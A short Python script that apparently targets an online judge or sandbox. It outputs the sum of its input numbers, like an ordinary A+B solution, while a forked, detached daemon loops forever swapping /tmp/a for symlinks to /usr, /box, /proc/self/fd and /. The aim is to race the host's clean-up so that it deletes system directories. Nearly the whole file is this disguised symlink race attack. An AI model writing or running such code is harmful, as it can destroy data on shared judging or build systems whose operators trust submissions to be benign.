# what = "A daemon swaps folders for links to the system while the clean-up runs."

import os

os.makedirs("/tmp/a/b/c")
if os.fork() == 0:
    os.setsid()
    while True:
        for target in ("/usr", "/box", "/proc/self/fd", "/"):
            try:
                os.rename("/tmp/a", "/tmp/x")
                os.symlink(target, "/tmp/a")
                os.unlink("/tmp/a")
                os.rename("/tmp/x", "/tmp/a")
            except OSError:
                pass

print(sum(map(int, input().split())))
